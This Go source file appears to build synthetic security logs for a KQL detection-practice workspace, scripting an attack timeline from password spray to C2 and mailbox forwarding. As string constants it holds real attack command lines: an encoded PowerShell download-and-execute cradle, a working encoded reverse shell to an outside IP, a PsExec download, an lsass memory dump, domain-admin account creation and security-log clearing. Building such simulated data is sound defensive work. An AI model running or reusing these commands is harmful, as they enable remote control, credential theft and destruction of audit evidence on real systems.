package workspace

import (
	"time"

	"github.com/kqlkernel/kqlkernel/table"
)

// timeline is when the attack happens, relative to now, so that every table tells the same
// story: the attacker sprays passwords at Azure AD and at the internet-facing WEB01, gets in
// as alice.wong over RDP, runs encoded PowerShell, dumps lsass, creates an admin account,
// moves to FS01, clears the log, and talks to its C2 until now; later alice's cloud account signs in
// from Moscow an hour after Seattle (impossible travel) and sets up mail forwarding.
type timeline struct {
	aadSpray, aadSprayEnd   table.DateTime
	rdpSpray, rdpSprayEnd   table.DateTime
	lockout                 table.DateTime
	breach                  table.DateTime // 4624 type 10 from the spray IP
	recon                   table.DateTime
	encodedPS               table.DateTime
	lsass                   table.DateTime
	newAdmin                table.DateTime
	lateral                 table.DateTime
	logCleared              table.DateTime
	c2Start, c2End          table.DateTime
	travelHome, travelAway  table.DateTime
	inboxRule, roleAssigned table.DateTime
	massDownload            table.DateTime
}

func (w *world) timeline() timeline {
	a := func(h, m int) table.DateTime {
		return w.ago(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute)
	}
	return timeline{
		aadSpray: a(51, 40), aadSprayEnd: a(51, 5),
		rdpSpray: a(50, 30), rdpSprayEnd: a(49, 45),
		lockout:    a(50, 2),
		breach:     a(49, 38),
		recon:      a(49, 30),
		encodedPS:  a(49, 21),
		lsass:      a(49, 2),
		newAdmin:   a(48, 40),
		lateral:    a(48, 12),
		logCleared: a(47, 55),
		c2Start:    a(49, 20), c2End: a(0, 3),
		travelHome: a(20, 15), travelAway: a(19, 20),
		inboxRule: a(19, 5), roleAssigned: a(18, 40),
		massDownload: a(18, 10),
	}
}

// The attack's command lines, shared by SecurityEvent, DeviceProcessEvents and the alerts.
const (
	encodedPSCommand = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC0AYwBoAGUAYwBrAC4AbgBlAHQALwBhAC4AcABzADEAJwApAA==`
	// The downloaded a.ps1 opens a reverse shell to the C2 (Nishang's Invoke-PowerShellTcp one-liner).
	reverseShellCommand = `powershell.exe -nop -w hidden -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAAoACcAMQA4ADUALgAyADIAMAAuADEAMAAxAC4ANAA3ACcALAA0ADQAMwApADsAJABzAHQAcgBlAGEAbQAgAD0AIAAkAGMAbABpAGUAbgB0AC4ARwBlAHQAUwB0AHIAZQBhAG0AKAApADsAWwBiAHkAdABlAFsAXQBdACQAYgB5AHQAZQBzACAAPQAgADAALgAuADYANQA1ADMANQB8ACUAewAwAH0AOwB3AGgAaQBsAGUAKAAoACQAaQAgAD0AIAAkAHMAdAByAGUAYQBtAC4AUgBlAGEAZAAoACQAYgB5AHQAZQBzACwAIAAwACwAIAAkAGIAeQB0AGUAcwAuAEwAZQBuAGcAdABoACkAKQAgAC0AbgBlACAAMAApAHsAOwAkAGQAYQB0AGEAIAA9ACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAALQBUAHkAcABlAE4AYQBtAGUAIABTAHkAcwB0AGUAbQAuAFQAZQB4AHQALgBBAFMAQwBJAEkARQBuAGMAbwBkAGkAbgBnACkALgBHAGUAdABTAHQAcgBpAG4AZwAoACQAYgB5AHQAZQBzACwAMAAsACAAJABpACkAOwAkAHMAZQBuAGQAYgBhAGMAawAgAD0AIAAoAGkAZQB4ACAAJABkAGEAdABhACAAMgA+ACYAMQAgAHwAIABPAHUAdAAtAFMAdAByAGkAbgBnACAAKQA7ACQAcwBlAG4AZABiAGEAYwBrADIAIAA9ACAAJABzAGUAbgBkAGIAYQBjAGsAIAArACAAJwBQAFMAIAAnACAAKwAgACgAcAB3AGQAKQAuAFAAYQB0AGgAIAArACAAJwA+ACAAJwA7ACQAcwBlAG4AZABiAHkAdABlACAAPQAgACgAWwB0AGUAeAB0AC4AZQBuAGMAbwBkAGkAbgBnAF0AOgA6AEEAUwBDAEkASQApAC4ARwBlAHQAQgB5AHQAZQBzACgAJABzAGUAbgBkAGIAYQBjAGsAMgApADsAJABzAHQAcgBlAGEAbQAuAFcAcgBpAHQAZQAoACQAcwBlAG4AZABiAHkAdABlACwAMAAsACQAcwBlAG4AZABiAHkAdABlAC4ATABlAG4AZwB0AGgAKQA7ACQAcwB0AHIAZQBhAG0ALgBGAGwAdQBzAGgAKAApAH0AOwAkAGMAbABpAGUAbgB0AC4AQwBsAG8AcwBlACgAKQA=`
	// How PsExec arrives: a plain download cradle.
	downloadCommand  = `powershell.exe -ep bypass -c "(New-Object Net.WebClient).DownloadFile('http://cdn-update-check.net/t/PsExec64.exe','C:\Users\alice.wong\AppData\Local\Temp\PsExec64.exe')"`
	lsassDumpCommand = `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\Windows\Temp\debug.dmp full`
	newUserCommand   = `net  user helpdesk_tmp Winter2024! /add /domain`
	addGroupCommand  = `net  group "Domain Admins" helpdesk_tmp /add /domain`
	clearLogCommand  = `wevtutil.exe cl Security`
	psexecService    = `%SystemRoot%\PSEXESVC.exe`
)
